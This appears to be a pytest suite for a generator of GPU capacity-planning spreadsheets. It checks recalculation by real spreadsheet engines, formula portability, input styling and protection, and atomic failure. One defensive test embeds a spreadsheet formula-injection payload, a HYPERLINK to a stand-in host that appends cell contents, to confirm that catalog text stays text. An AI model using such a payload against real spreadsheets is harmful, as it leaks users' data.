"""The workbook: live formulas that a real spreadsheet engine computes to the values we cache,
named and styled inputs, text that stays text, and atomic failure."""

from __future__ import annotations

import math
import os
import re
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from openpyxl import load_workbook
from openpyxl.formula.tokenizer import Tokenizer
from openpyxl.utils import get_column_letter

from planner.build import WORKBOOK_NAME, run_build
from planner.cli import cli
from planner.errors import PlannerError
from planner.inputs.assumptions import ASSUMPTIONS
from planner.inputs.catalog import DEFAULT_GPUS, DEFAULT_MODELS, DEFAULT_SERVERS, DEFAULT_WORKLOADS
from planner.inputs.grid import DEFAULT_GRID
from tests.recalc import recalculate, recalculate_gnumeric
from tests.workbook_dump import dump

DATA = Path(__file__).parent / "data"
SMALL = {"models_path": DATA / "small-models.yaml", "gpus_path": DATA / "small-gpus.yaml",
         "grid_path": DATA / "small-grid.yaml"}
GOLDEN = {"models_path": DATA / "small-models.yaml", "gpus_path": DATA / "small-gpus.yaml",
          "grid_path": DATA / "golden-grid.yaml"}
PORTABLE_FUNCTIONS = {"IF", "MIN", "MAX", "INT", "AND", "OR", "NOT", "INDEX", "MATCH", "SUM",
                      "LN", "SUMPRODUCT", "ABS", "ROUND"}


def build(out: Path, models_path: Path = DEFAULT_MODELS, gpus_path: Path = DEFAULT_GPUS,
          grid_path: Path = DEFAULT_GRID, overrides: dict | None = None) -> Path:
    run_build(models_path, gpus_path, grid_path, out, overrides or {}, None)
    return out / WORKBOOK_NAME


def named_cell(wb, name: str):  # type: ignore[no-untyped-def]
    sheet, coord = wb.defined_names[name].attr_text.replace("$", "").split("!")
    return wb[sheet.strip("'")][coord]


def formula_cells(path: Path):
    """(sheet, coordinate, formula) of every formula cell."""
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    yield ws.title, cell.coordinate, cell.value


def same(a: object, b: object, abs_tol: float = 1e-9) -> bool:
    if isinstance(a, bool) or isinstance(b, bool) or isinstance(a, str) or isinstance(b, str):
        return a == b
    if isinstance(a, int | float) and isinstance(b, int | float):
        return math.isclose(a, b, rel_tol=1e-9, abs_tol=abs_tol)
    return a == b


def compare(expected: Path, actual: Path, abs_tol: float = 1e-9) -> list[str]:
    """Formula cells whose values differ between two workbooks (data_only)."""
    exp, act = load_workbook(expected, data_only=True), load_workbook(actual, data_only=True)
    bad = []
    for sheet, coord, formula in formula_cells(expected):
        a, b = exp[sheet][coord].value, act[sheet][coord].value
        if not same(a, b, abs_tol):
            bad.append(f"{sheet}!{coord} {formula[:80]}: {a!r} vs {b!r}")
    return bad


def assert_engine_agrees(built: Path, recalculated: Path, min_formulas: int,
                         abs_tol: float = 1e-9) -> None:
    """Every formula cell the engine recalculated equals the cached value, and there were at
    least `min_formulas` of them."""
    mismatches = compare(built, recalculated, abs_tol)
    assert sum(1 for _ in formula_cells(built)) > min_formulas
    assert mismatches == [], f"{len(mismatches)} mismatches:\n" + "\n".join(mismatches[:20])


@pytest.fixture(scope="module")
def small_workbook(tmp_path_factory) -> Path:
    return build(tmp_path_factory.mktemp("small"), **SMALL)


# --- a real spreadsheet engine agrees with every cached value --------------------------------

# (default_workbook and default_cold_libreoffice/_gnumeric, built and recalculated once a
# session, are in conftest.py; the cold recalculation's error count is in test_cold_recalc.py)
@pytest.mark.libreoffice
def test_default_workbook_cached_values_equal_libreoffice(default_workbook,
                                                           default_cold_libreoffice) -> None:
    assert_engine_agrees(default_workbook, default_cold_libreoffice, 150_000)


@pytest.mark.libreoffice
def test_editing_a_named_input_equals_rebuilding_with_set(small_workbook, tmp_path) -> None:
    wb = load_workbook(small_workbook)
    named_cell(wb, "gpu_memory_utilization").value = 0.8
    edited = tmp_path / "edited" / "capacity-plan.xlsx"
    edited.parent.mkdir()
    wb.save(edited)
    recalculated = recalculate(edited, tmp_path / "recalculated")
    rebuilt = build(tmp_path / "rebuilt", **SMALL, overrides={"gpu_memory_utilization": 0.8})
    assert compare(rebuilt, recalculated) == []
    # and the edit really moved the numbers
    assert compare(small_workbook, rebuilt) != []


# Gnumeric, a second engine: it reads a copy with no cached formula value at all, so every value
# it writes is its own. Its xlsx has no default cell style, which openpyxl warns about.
GNUMERIC_STYLES = "ignore:Workbook contains no default style:UserWarning"


@pytest.mark.gnumeric
@pytest.mark.filterwarnings(GNUMERIC_STYLES)
def test_default_workbook_cached_values_equal_gnumeric(default_workbook,
                                                       default_cold_gnumeric) -> None:
    assert_engine_agrees(default_workbook, default_cold_gnumeric, 150_000,
                         abs_tol=0.0)  # relative only


def one_entry(path: Path, section: str, entry: str, folder: Path, **changes: object) -> Path:
    """The catalog at `path` cut down to its one `entry` (with `changes`), written in `folder`."""
    catalog = yaml.safe_load(path.read_text())
    catalog[section] = {entry: {**catalog[section][entry], **changes}}
    cut = folder / path.name
    cut.write_text(yaml.safe_dump(catalog, sort_keys=False))
    return cut


@pytest.mark.gnumeric
@pytest.mark.filterwarnings(GNUMERIC_STYLES)
def test_editing_a_named_input_in_gnumeric_equals_rebuilding_with_set(tmp_path) -> None:
    workloads = one_entry(DEFAULT_WORKLOADS, "workloads", "rag-8b-long-context", tmp_path)
    gpus = yaml.safe_load(SMALL["gpus_path"].read_text())["gpus"]
    catalog = yaml.safe_load(DEFAULT_SERVERS.read_text())
    catalog["servers"] = {k: s for k, s in catalog["servers"].items() if s["gpu"] in gpus}
    servers = tmp_path / "servers.yaml"
    servers.write_text(yaml.safe_dump(catalog, sort_keys=False))

    def small(out: Path, overrides: dict) -> Path:
        run_build(SMALL["models_path"], SMALL["gpus_path"], SMALL["grid_path"], out, overrides,
                  None, workloads_path=workloads, servers_path=servers)
        return out / WORKBOOK_NAME

    original = small(tmp_path / "original", {})
    wb = load_workbook(original)
    named_cell(wb, "gpu_memory_utilization").value = 0.8
    edited = tmp_path / "edited" / "capacity-plan.xlsx"
    edited.parent.mkdir()
    wb.save(edited)
    recalculated = recalculate_gnumeric(edited, tmp_path / "recalculated")
    rebuilt = small(tmp_path / "rebuilt", {"gpu_memory_utilization": 0.8})
    assert compare(rebuilt, recalculated, abs_tol=0.0) == []
    assert compare(original, rebuilt) != []


# One entry in every catalog (and, second, one candidate for the one workload): Gnumeric's INDEX
# gives #REF! on a one-cell range where Excel and LibreOffice give the cell, so the names of a
# one-entry catalog and a workload's one-row Fleet block cover the empty cell below as well.
@pytest.fixture(scope="module", params=["one-entry-catalogs", "one-candidate"])
def one_entry_workbook(request, tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp(request.param)
    one_candidate = request.param == "one-candidate"
    models = one_entry(SMALL["models_path"], "models", "llama-3.1-8b", folder)
    gpus = one_entry(SMALL["gpus_path"], "gpus", "h100-sxm", folder)
    workloads = one_entry(DEFAULT_WORKLOADS, "workloads", "rag-8b-long-context", folder,
                          **({"weights": ["bf16"], "kv": ["bf16"]} if one_candidate else {}))
    servers = one_entry(DEFAULT_SERVERS, "servers", "hgx-h100-8", folder,
                        **({"scale_up_gpus": 1} if one_candidate else {}))  # TP 1 only
    run_build(models, gpus, SMALL["grid_path"], folder / "built", {}, None,
              workloads_path=workloads, servers_path=servers)
    built = folder / "built" / WORKBOOK_NAME
    wb = load_workbook(built)
    assert [wb[s].max_row for s in ("Models", "GPUs", "Workloads", "Servers")] == [2, 2, 2, 2]
    assert (wb["Fleet"].max_row == 2) == one_candidate
    return built


@pytest.mark.gnumeric
@pytest.mark.filterwarnings(GNUMERIC_STYLES)
def test_one_entry_catalogs_cached_values_equal_gnumeric(one_entry_workbook, tmp_path) -> None:
    recalculated = recalculate_gnumeric(one_entry_workbook, tmp_path)
    assert_engine_agrees(one_entry_workbook, recalculated, 0, abs_tol=0.0)  # relative only


@pytest.mark.libreoffice
def test_one_entry_catalogs_cached_values_equal_libreoffice(one_entry_workbook,
                                                            tmp_path) -> None:
    assert_engine_agrees(one_entry_workbook, recalculate(one_entry_workbook, tmp_path), 0)


# --- what a previewer that cannot calculate sees ---------------------------------------------

def test_every_formula_cell_carries_a_cached_value(small_workbook) -> None:
    values = load_workbook(small_workbook, data_only=True)
    missing = [f"{s}!{c}" for s, c, _ in formula_cells(small_workbook)
               if values[s][c].value is None]
    assert missing == []


def test_excel_still_recalculates_on_open(small_workbook) -> None:
    with zipfile.ZipFile(small_workbook) as zf:
        assert 'fullCalcOnLoad="1"' in zf.read("xl/workbook.xml").decode()


# --- formulas: portable, from the definitions, one lookup per row ----------------------------

def test_formulas_use_only_portable_functions(small_workbook) -> None:
    used: set[str] = set()
    for _, _, formula in formula_cells(small_workbook):
        for token in Tokenizer(formula).items:
            if token.type == "FUNC" and token.subtype == "OPEN":
                used.add(token.value.rstrip("("))
    assert used <= PORTABLE_FUNCTIONS, used - PORTABLE_FUNCTIONS
    assert {"OFFSET", "INDIRECT", "XLOOKUP", "LET"}.isdisjoint(used)


def test_catalog_lookups_resolved_once_per_row(small_workbook) -> None:
    ws = load_workbook(small_workbook)["Grid"]
    for row in ws.iter_rows(min_row=2, max_row=5):
        matches = [c for c in row if isinstance(c.value, str) and "MATCH(" in c.value]
        assert len(matches) == 4  # model, GPU, weight format, KV format
        assert all(c.value.count("MATCH(") == 1 for c in matches)


def test_grid_formula_is_the_definition_rendered(small_workbook) -> None:
    ws = load_workbook(small_workbook)["Grid"]
    header = [c.value for c in ws[1]]
    col = header.index("Weights per GPU [bytes, shown in GB]") + 1
    weights = get_column_letter(header.index("Weights [bytes, shown in GB]") + 1)
    tp = get_column_letter(header.index("TP degree [GPUs]") + 1)
    assert ws.cell(row=2, column=col).value == f"=${weights}2/${tp}2"
    col = header.index("Routed-expert weights [bytes, shown in GB]") + 1
    assert "INDEX(engine_weights_as_loaded,engine_row)" in ws.cell(row=2, column=col).value


# --- inputs are inputs -----------------------------------------------------------------------

def test_assumptions_are_named_styled_unlocked_inputs(small_workbook) -> None:
    wb = load_workbook(small_workbook)
    for name in ASSUMPTIONS:
        cell = named_cell(wb, name)
        assert cell.protection.locked is False, name
        assert cell.font.color.rgb.endswith("0000FF"), name  # blue input text
        assert cell.fill.fgColor.rgb.endswith("FFF2CC"), name
    for ws in wb.worksheets:
        assert ws.protection.sheet or ws.title in ("Grid", "Fleet"), ws.title
        assert ws.protection.password is None


def test_format_bytes_are_named_inputs(small_workbook) -> None:
    wb = load_workbook(small_workbook)
    assert named_cell(wb, "bytes_per_param_int4").value == pytest.approx(0.51953125)


def test_every_grid_header_has_a_unit(small_workbook) -> None:
    ws = load_workbook(small_workbook)["Grid"]
    headers = [c.value for c in ws[1]]
    unitless = [h for h in headers if "[" not in h]
    assert unitless == []
    assert not any(re.search(r"\bG\b", h) for h in headers)


# --- catalog text is data --------------------------------------------------------------------

def test_hyperlink_in_a_source_stays_text(tmp_path) -> None:
    hostile = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
    catalog = yaml.safe_load((DATA / "small-models.yaml").read_text())
    catalog["models"]["llama-3.1-8b"]["source"] = hostile
    models = tmp_path / "models.yaml"
    models.write_text(yaml.safe_dump(catalog, sort_keys=False))
    path = build(tmp_path / "out", models, SMALL["gpus_path"], SMALL["grid_path"])
    ws = load_workbook(path)["Models"]
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("source") + 1)
    assert cell.value == hostile
    assert cell.data_type == "s"
    with zipfile.ZipFile(path) as zf:
        sheets = " ".join(zf.read(n).decode() for n in zf.namelist() if "worksheets/sheet" in n)
    assert "<f>HYPERLINK" not in sheets


# --- failure leaves the output folder as it was ----------------------------------------------

def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


@pytest.mark.parametrize("breakage", ["catalog", "grid", "set"])
def test_failed_build_changes_nothing(tmp_path, breakage: str) -> None:
    out = tmp_path / "out"
    build(out, **SMALL)
    (out / "notes.txt").write_text("kept")
    before = snapshot(out)
    args = ["build", "--out", str(out), "--models", str(SMALL["models_path"]),
            "--gpus", str(SMALL["gpus_path"]), "--grid", str(SMALL["grid_path"])]
    if breakage == "catalog":
        bad = tmp_path / "bad-models.yaml"
        bad.write_text(SMALL["models_path"].read_text().replace("hidden_size: 4096",
                                                                 "hidden_size: -1", 1))
        args[args.index("--models") + 1] = str(bad)
    elif breakage == "grid":
        bad = tmp_path / "bad-grid.yaml"
        bad.write_text(SMALL["grid_path"].read_text().replace("tp: [1, 8]", "tp: [0]"))
        args[args.index("--grid") + 1] = str(bad)
    else:
        args += ["--set", "gpu_memory_utilization=2"]
    result = CliRunner().invoke(cli, args)
    assert isinstance(result.exception, PlannerError)
    assert snapshot(out) == before  # same files, same bytes, no partial files


@pytest.mark.parametrize("failing,error", [("html", RuntimeError), ("html", OSError),
                                           ("workbook", RuntimeError)])
def test_failure_while_writing_leaves_the_folder_as_it_was(tmp_path, monkeypatch, failing: str,
                                                          error: type) -> None:
    """The inputs are fine and the writers run: one fails after writing part of its file (the
    HTML after the whole workbook was written, or the workbook itself midway)."""
    import planner.outputs.html.report
    import planner.outputs.workbook

    out = tmp_path / "out"
    build(out, **SMALL)
    (out / "notes.txt").write_text("kept")
    before = snapshot(out)
    seen: list[str] = []

    def broken(*args: object) -> None:
        path = next(a for a in args if isinstance(a, Path))
        if failing == "html":  # the workbook is complete, under its temporary name
            (written,) = out.glob(".capacity-plan.xlsx.*.partial")
            with zipfile.ZipFile(written) as zf:
                assert "xl/workbook.xml" in zf.namelist()
            seen.append(written.name)
        path.write_bytes(b"partial output")
        if error is OSError:
            raise OSError(28, "No space left on device", str(path))
        raise RuntimeError("writer failed")

    module = planner.outputs.html.report if failing == "html" else planner.outputs.workbook
    monkeypatch.setattr(module, f"write_{failing}", broken)
    expected = PlannerError if error is OSError else error
    with pytest.raises(expected, match="No space left|writer failed"):
        build(out, **SMALL, overrides={"gpu_memory_utilization": 0.8})
    assert seen or failing == "workbook"
    assert snapshot(out) == before  # same files, same bytes, no partial files


def test_grid_beyond_excel_rows_is_a_clear_error(tmp_path) -> None:
    grid = tmp_path / "huge.yaml"
    grid.write_text("grid:\n  models: all\n  gpus: all\n  weights: [bf16, fp8, int4, nvfp4]\n"
                    "  kv: [bf16, fp8, fp16]\n  context: [" + ", ".join(
                        str(1024 * (i + 1)) for i in range(200)) + "]\n"
                    "  batch: [1, 2, 4, 8, 16, 32, 64, 128]\n  tp: [1, 8]\n")
    out = tmp_path / "out"
    with pytest.raises(PlannerError, match="more than the 1,048,575 rows"):
        build(out, DEFAULT_MODELS, DEFAULT_GPUS, grid)
    assert not out.exists() or list(out.iterdir()) == []


# --- a readable golden dump of a tiny workbook -----------------------------------------------

def test_golden_dump(tmp_path) -> None:
    path = build(tmp_path, **GOLDEN)
    golden = DATA / "golden-workbook.txt"
    text = dump(path)
    if os.environ.get("UPDATE_GOLDEN") == "1":
        golden.write_text(text)
    assert text == golden.read_text(), "run with UPDATE_GOLDEN=1 and review the diff"


def test_native_charts_carry_cached_points(small_workbook) -> None:
    """Previewers draw charts from the cache in the chart part, not from cell formulas."""
    with zipfile.ZipFile(small_workbook) as zf:
        charts = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/charts/chart")]
    assert len(charts) == 5  # three on Charts, cost breakdown on Budget, tornado on Sensitivity
    for xml in charts:
        series = xml.count("<ser>")
        assert series >= 1
        assert xml.count("<numCache>") >= series  # every series has its values
        assert re.search(r"<pt idx=\"0\"><v>[0-9.]+</v></pt>", xml)


def test_protection_never_blocks_ordinary_work(small_workbook) -> None:
    wb = load_workbook(small_workbook)
    for ws in wb.worksheets:
        if ws.title in ("Grid", "Fleet"):  # Excel cannot sort protected ranges: left open
            assert not ws.protection.sheet, ws.title
            continue
        assert ws.protection.sheet, ws.title
        assert not ws.protection.formatColumns and not ws.protection.formatRows, ws.title


def test_no_catalog_value_shows_as_hashes(small_workbook) -> None:
    """Every catalog column is at least as wide as its widest value as the format shows it."""
    from planner.outputs.workbook.cells import shown_text

    wb = load_workbook(small_workbook)
    for title in ("Models", "GPUs"):
        ws = wb[title]
        values = load_workbook(small_workbook, data_only=True)[title]
        for column in ws.iter_cols(min_row=2):
            letter = column[0].column_letter
            width = ws.column_dimensions[letter].width
            for cell in column:
                value = values[cell.coordinate].value
                if isinstance(value, int | float) and not isinstance(value, bool):
                    shown = shown_text(value, cell.number_format)
                    assert len(shown) < width, (title, cell.coordinate, shown, width)


def test_money_is_formatted_as_currency_with_the_unit_in_the_header(small_workbook) -> None:
    ws = load_workbook(small_workbook)["GPUs"]
    header = [c.value for c in ws[1]]
    column = header.index("Price per GPU-hour [USD]") + 1
    assert "$" in ws.cell(row=2, column=column).number_format
    assert "$" in ws.cell(row=2, column=header.index("Purchase price per GPU [USD]") + 1
                          ).number_format


def test_wrapped_headers_get_the_height_they_need(small_workbook) -> None:
    """A header that wraps onto several lines gets a row tall enough, so it never paints over
    the first data row (Formats: "Bytes per parameter [bytes]" in an 18-wide column)."""
    wb = load_workbook(small_workbook)
    ws = wb["Formats"]
    header_row = next(r for r in range(1, 6) if ws.cell(r, 1).value == "Format")
    assert ws.row_dimensions[header_row].height >= 30
    assert (ws.row_dimensions[header_row + 1].height or 15) <= 20
